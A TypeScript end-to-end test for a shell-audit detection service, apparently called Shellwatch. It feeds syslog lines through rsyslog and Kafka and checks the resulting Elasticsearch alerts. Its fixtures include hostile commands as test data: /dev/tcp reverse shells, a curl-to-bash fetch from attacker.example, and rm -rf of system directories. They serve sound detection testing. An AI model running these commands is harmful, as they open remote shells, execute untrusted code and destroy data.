import { execFile, spawn, spawnSync } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { hostname, tmpdir } from 'node:os';
import { delimiter, join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allDocuments, countDocuments, uniqueIndex } from '../support/elasticsearch';
import { createTopic, groupLag, testKafka, uniqueName } from '../support/kafka';
import { ServiceProcess } from '../support/service';
import { KAFKA_BROKER, REPO_ROOT } from '../support/stack';
import { waitFor } from '../support/wait-for';
import { errorMessage } from '../../src/core/errors';

/**
 * The rsyslog shipper, for real: Debian's rsyslogd with its omkafka output,
 * run in a temp directory on a high loopback port, with the drop-in files of
 * deploy/shippers/rsyslog as shipped (only the broker list and the topic
 * replaced). Syslog lines are sent to its TCP input, as RFC 3164 and RFC 5424
 * frames written here and with util-linux `logger`, in the three shapes
 * shell audit takes in syslog: snoopy, bash's own syslog history, and the
 * PROMPT_COMMAND + logger recipe. rsyslog forwards what its filter selects to
 * Kafka (JSON template in one run, raw RFC 5424 in the other), the built
 * service decodes it, and the alerts must be in Elasticsearch with the user and
 * host read from the syslog message; nothing may reach the dead-letter topic.
 */

const run = promisify(execFile);

/** A syslog line sent to rsyslog and what Shellwatch must make of it. */
interface SentLine {
  /** Sent as a frame written here (exact header) or by util-linux logger (its own header). */
  via: 'frame' | 'logger';
  /** Frame shape (frames only). */
  rfc?: '3164' | '5424';
  host: string;
  tag: string;
  pid?: number;
  /** Syslog priority (facility * 8 + severity), frames only. */
  pri?: number;
  message: string;
  /** The command Shellwatch must decode, or undefined when rsyslog must not forward the line. */
  command: string | undefined;
  rule?: string;
  user?: { name?: string; id?: string; effective?: { name?: string } };
  module?: string;
}

const LOCAL = hostname();

// Written for this test. Which rule of test/fixtures/rules/basic each
// malicious command triggers is known by construction.
const LINES: SentLine[] = [
  {
    via: 'frame',
    rfc: '5424',
    host: 'web-1.example.internal',
    tag: 'snoopy',
    pid: 30001,
    pri: 86, // authpriv.info, as snoopy logs
    message:
      '[login:alice username:root uid:0 sid:4242 tty:/dev/pts/3 cwd:/root filename:/usr/bin/rm]: rm -rf /etc',
    command: 'rm -rf /etc',
    rule: 'SW-DST-0001',
    user: { name: 'alice', effective: { name: 'root' } },
    module: 'snoopy',
  },
  {
    via: 'frame',
    rfc: '5424',
    host: 'web-1.example.internal',
    tag: 'snoopy',
    pid: 30002,
    pri: 86,
    message:
      '[login:alice username:alice uid:1000 sid:4242 tty:/dev/pts/3 cwd:/home/alice filename:/usr/bin/ls]: ls -la /var/log',
    command: 'ls -la /var/log',
    user: { name: 'alice' },
    module: 'snoopy',
  },
  {
    via: 'frame',
    rfc: '3164',
    host: 'web-2',
    tag: '-bash',
    pid: 4321,
    pri: 14, // user.info, bash's default
    message: 'HISTORY: PID=4321 UID=1000 bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    rule: 'SW-EXE-0001',
    user: { id: '1000' },
    module: 'bash-history',
  },
  {
    via: 'frame',
    rfc: '3164',
    host: 'web-2',
    tag: '-bash',
    pid: 4321,
    pri: 14,
    message: 'HISTORY: PID=4321 UID=1000 rm -rf ./build',
    command: 'rm -rf ./build',
    user: { id: '1000' },
    module: 'bash-history',
  },
  {
    via: 'frame',
    rfc: '3164',
    host: 'web-2',
    tag: 'bash',
    pid: 4400,
    pri: 14,
    message: 'HISTORY (TRUNCATED): PID=4400 UID=0 tar czf /backup/etc-2026.tgz /etc',
    command: 'tar czf /backup/etc-2026.tgz /etc',
    user: { id: '0' },
    module: 'bash-history',
  },
  {
    via: 'frame',
    rfc: '3164',
    host: 'web-3',
    tag: 'bash-history',
    pid: 5151,
    pri: 182, // local6.info, as deploy/shippers/bash logs
    message: 'bob [5150]: /home/bob: curl -s http://attacker.example/x.sh | bash [0]',
    command: 'curl -s http://attacker.example/x.sh | bash',
    rule: 'SW-EXE-0002',
    user: { name: 'bob' },
    module: 'bash-history',
  },
  {
    via: 'frame',
    rfc: '5424',
    host: 'web-3',
    tag: 'bash-history',
    pid: 5152,
    pri: 182,
    message: 'bob [5150]: /home/bob: git pull --rebase origin main [0]',
    command: 'git pull --rebase origin main',
    user: { name: 'bob' },
    module: 'bash-history',
  },
  {
    // Not shell audit: the shipper's filter must keep it out of Kafka.
    via: 'frame',
    rfc: '3164',
    host: 'web-3',
    tag: 'sshd',
    pid: 900,
    pri: 38,
    message: 'Accepted publickey for bob from 198.51.100.23 port 51234 ssh2',
    command: undefined,
  },
  {
    via: 'logger',
    host: LOCAL,
    tag: 'bash-history',
    message: 'carol [6001]: /srv: sudo rm -fr /usr [1]',
    command: 'sudo rm -fr /usr',
    rule: 'SW-DST-0001',
    user: { name: 'carol' },
    module: 'bash-history',
  },
  {
    via: 'logger',
    host: LOCAL,
    tag: 'bash-history',
    message: 'carol [6001]: df -h /srv [0]',
    command: 'df -h /srv',
    user: { name: 'carol' },
    module: 'bash-history',
  },
  {
    via: 'logger',
    host: LOCAL,
    tag: 'snoopy',
    message:
      '[login:dave username:dave uid:1001 sid:777 tty:/dev/pts/9 cwd:/tmp filename:/usr/bin/bash]: bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1',
    command: 'bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1',
    rule: 'SW-EXE-0001',
    user: { name: 'dave' },
    module: 'snoopy',
  },
  {
    via: 'logger',
    host: LOCAL,
    tag: '-bash',
    message: 'HISTORY: PID=7001 UID=0 journalctl -u nginx --since today',
    command: 'journalctl -u nginx --since today',
    user: { id: '0' },
    module: 'bash-history',
  },
];

const FORWARDED = LINES.filter((l) => l.command !== undefined);
const MALICIOUS = LINES.filter((l) => l.rule !== undefined);

/** Where rsyslogd is, or a clear failure (npm test's scripts/test-prerequisites.sh installs it first). */
function findRsyslogd(): string {
  const dirs = [...(process.env.PATH ?? '').split(delimiter), '/usr/sbin', '/sbin'];
  const found = dirs.map((d) => join(d, 'rsyslogd')).find((p) => p !== '' && existsSync(p));
  if (found === undefined) {
    throw new Error(
      'rsyslogd not found: install the rsyslog and rsyslog-kafka packages (apt-get install rsyslog rsyslog-kafka; npm test does it as root)',
    );
  }
  return found;
}

function freePort(): Promise<number> {
  return new Promise((done, fail) => {
    const server = createServer();
    server.once('error', fail);
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      server.close(() => done(port));
    });
  });
}

function canConnect(port: number): Promise<boolean> {
  return new Promise((done) => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.once('connect', () => {
      socket.destroy();
      done(true);
    });
    socket.once('error', () => done(false));
  });
}

/** One rsyslogd of our own: temp work directory, TCP input on a loopback port, a shipped drop-in. */
class Rsyslog {
  readonly dir = mkdtempSync(join(tmpdir(), 'shellwatch-rsyslog-'));
  readonly output: string[] = [];
  port = 0;
  private child: ChildProcess | undefined;
  private exited = false;

  constructor(
    private readonly binary: string,
    private readonly dropIn: string,
    private readonly topic: string,
  ) {}

  async start(): Promise<void> {
    this.port = await freePort();
    const shipped = readFileSync(
      resolve(REPO_ROOT, 'deploy/shippers/rsyslog', this.dropIn),
      'utf8',
    );
    const dropIn = shipped
      .replace(/broker=\[[^\]]*\]/, `broker=["${KAFKA_BROKER}"]`)
      .replace('topic="shell.commands"', `topic="${this.topic}"`);
    expect(dropIn, 'broker and topic replaced in the shipped drop-in').toContain(this.topic);
    writeFileSync(join(this.dir, 'shellwatch.conf'), dropIn);
    writeFileSync(
      join(this.dir, 'rsyslog.conf'),
      [
        `global(workDirectory="${this.dir}")`,
        'module(load="imtcp")',
        `input(type="imtcp" address="127.0.0.1" port="${this.port}")`,
        `include(file="${join(this.dir, 'shellwatch.conf')}")`,
        '',
      ].join('\n'),
    );
    const check = spawnSync(this.binary, ['-N1', '-f', join(this.dir, 'rsyslog.conf')], {
      encoding: 'utf8',
    });
    if (check.status !== 0) {
      const why = `${check.stdout}${check.stderr}`;
      const hint = /omkafka/i.test(why)
        ? 'the omkafka module is missing: install rsyslog-kafka (apt-get install rsyslog-kafka; .ci/run does)'
        : 'rsyslogd rejected the configuration';
      throw new Error(`${hint}\n${why}`);
    }
    this.child = spawn(
      this.binary,
      ['-n', '-f', join(this.dir, 'rsyslog.conf'), '-i', join(this.dir, 'rsyslogd.pid')],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    const keep = (chunk: Buffer): void => {
      this.output.push(chunk.toString());
    };
    this.child.stdout?.on('data', keep);
    this.child.stderr?.on('data', keep);
    this.child.on('exit', () => {
      this.exited = true;
    });
    await waitFor(
      `rsyslogd listening on 127.0.0.1:${this.port}`,
      async () => {
        if (this.exited) throw new Error(`rsyslogd exited:\n${this.output.join('')}`);
        return canConnect(this.port);
      },
      (open) => open,
      { timeoutMs: 30_000 },
    );
  }

  /** Sends frames over one TCP connection, newline-delimited (non-transparent framing). */
  sendFrames(frames: string[]): Promise<void> {
    return new Promise((done, fail) => {
      const socket = connect({ host: '127.0.0.1', port: this.port }, () => {
        socket.end(frames.map((f) => `${f}\n`).join(''), () => done());
      });
      socket.once('error', fail);
    });
  }

  async logger(tag: string, message: string): Promise<void> {
    await run('logger', [
      '--server',
      '127.0.0.1',
      '--port',
      String(this.port),
      '--tcp',
      `--tag=${tag}`,
      '--',
      message,
    ]);
  }

  async stop(): Promise<void> {
    const child = this.child;
    if (child !== undefined && !this.exited) {
      const exited = new Promise<void>((done) => child.once('exit', () => done()));
      child.kill('SIGTERM');
      const timer = setTimeout(() => child.kill('SIGKILL'), 10_000);
      await exited;
      clearTimeout(timer);
    }
    rmSync(this.dir, { recursive: true, force: true });
  }
}

const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ');

/** `Mmm dd hh:mm:ss` of an instant, as a BSD syslog header writes it (UTC here). */
function bsdTime(at: Date): string {
  const pad = (n: number): string => String(n).padStart(2, '0');
  const day = String(at.getUTCDate()).padStart(2, ' ');
  return `${MONTHS[at.getUTCMonth()] ?? 'Jan'} ${day} ${pad(at.getUTCHours())}:${pad(at.getUTCMinutes())}:${pad(at.getUTCSeconds())}`;
}

function frame(line: SentLine, at: Date): string {
  const pri = line.pri ?? 13;
  const pid = line.pid === undefined ? '' : `[${line.pid}]`;
  if (line.rfc === '3164')
    return `<${pri}>${bsdTime(at)} ${line.host} ${line.tag}${pid}: ${line.message}`;
  return `<${pri}>1 ${at.toISOString()} ${line.host} ${line.tag} ${line.pid ?? '-'} - - ${line.message}`;
}

interface AlertSource {
  '@timestamp': string;
  rule: { id: string };
  process: { command_line: string };
  user?: { name?: string; id?: string; effective?: { name?: string } };
  host?: { name?: string };
  event: { module: string; original: string };
  labels?: Record<string, string>;
  shellwatch: { kafka: { topic: string } };
}

async function topicEnd(topic: string): Promise<number> {
  const admin = testKafka.admin();
  await admin.connect();
  try {
    const offsets = await admin.fetchTopicOffsets(topic);
    return offsets.reduce((sum, p) => sum + Number(p.high), 0);
  } finally {
    await admin.disconnect();
  }
}

describe.each([
  { variant: 'JSON template', dropIn: '60-shellwatch-json.conf' },
  { variant: 'raw RFC 5424', dropIn: '60-shellwatch-raw.conf' },
])('rsyslog omkafka ($variant) → Shellwatch → Elasticsearch', ({ dropIn }) => {
  const topic = uniqueName('e2e-rsyslog');
  const dlqTopic = `${topic}.dlq`;
  const groupId = uniqueName('e2e-rsyslog-group');
  const alertsIndex = uniqueIndex('e2e-rsyslog-alerts');
  const commandsIndex = uniqueIndex('e2e-rsyslog-commands');
  const sentAt = new Date();
  sentAt.setUTCMilliseconds(0);
  let rsyslog: Rsyslog | undefined;
  let service: ServiceProcess | undefined;

  beforeAll(async () => {
    const binary = findRsyslogd();
    await createTopic(topic, 2);
    await createTopic(dlqTopic, 1);
    rsyslog = new Rsyslog(binary, dropIn, topic);
    await rsyslog.start();
    service = new ServiceProcess({
      KAFKA_TOPIC: topic,
      KAFKA_GROUP_ID: groupId,
      KAFKA_DLQ_TOPIC: dlqTopic,
      ES_ALERTS_INDEX: alertsIndex,
      ES_COMMANDS_INDEX: commandsIndex,
      RULES_DIR: 'test/fixtures/rules/basic',
    }).start();
    await service.waitReady();
    const frames = LINES.filter((l) => l.via === 'frame').map((l) => frame(l, sentAt));
    await rsyslog.sendFrames(frames);
    for (const line of LINES.filter((l) => l.via === 'logger')) {
      await rsyslog.logger(line.tag, line.message);
    }
  });

  afterAll(async () => {
    await service?.stop();
    await rsyslog?.stop();
  });

  it('decodes every forwarded line, alerts on the malicious ones, dead-letters nothing', async () => {
    await waitFor(
      'one command document per forwarded line',
      () => countDocuments(commandsIndex),
      (n) => n >= FORWARDED.length,
      { timeoutMs: 120_000 },
    ).catch((error: unknown) => {
      throw new Error(
        `${errorMessage(error)}\n--- rsyslogd ---\n${rsyslog?.output.join('') ?? ''}\n--- service ---\n${service?.logs() ?? ''}`,
      );
    });
    await waitFor(
      'committed offsets at the end of the topic',
      () => groupLag(groupId, topic),
      (lag) => lag === 0,
      { timeoutMs: 60_000 },
    );
    // The sshd line was filtered out by the shipper; every other line is one record.
    expect(await topicEnd(topic)).toBe(FORWARDED.length);
    expect(await countDocuments(commandsIndex)).toBe(FORWARDED.length);
    expect(await topicEnd(dlqTopic), `dead letters:\n${service?.logs() ?? ''}`).toBe(0);

    const alerts = await allDocuments<AlertSource>(alertsIndex);
    expect(
      alerts.map((a) => `${a.source.rule.id} ${a.source.process.command_line}`).sort(),
    ).toEqual(MALICIOUS.map((l) => `${l.rule ?? ''} ${l.command ?? ''}`).sort());
    for (const line of MALICIOUS) {
      const alert = alerts.find((a) => a.source.process.command_line === line.command)?.source;
      expect(alert, line.command).toBeDefined();
      if (alert === undefined) continue;
      expect(alert.rule.id).toBe(line.rule);
      expect(alert.host?.name).toBe(line.host);
      expect(alert.user).toMatchObject(line.user ?? {});
      expect(alert.event.module).toBe(line.module);
      expect(alert.labels?.envelope).toBe('syslog');
      expect(alert.shellwatch.kafka.topic).toBe(topic);
      // The record as Kafka held it: rsyslog's JSON (message in `msg`) or the raw line.
      const original = alert.event.original;
      const parsed: unknown = original.startsWith('{') ? JSON.parse(original) : undefined;
      const msg =
        typeof parsed === 'object' && parsed !== null && 'msg' in parsed ? parsed.msg : original;
      const text = typeof msg === 'string' ? msg : original;
      expect(text).toContain(line.message);
      // An RFC 5424 frame carries its own time: it must be the event's time.
      if (line.via === 'frame' && line.rfc === '5424') {
        expect(alert['@timestamp']).toBe(sentAt.toISOString());
      }
    }
  });
});
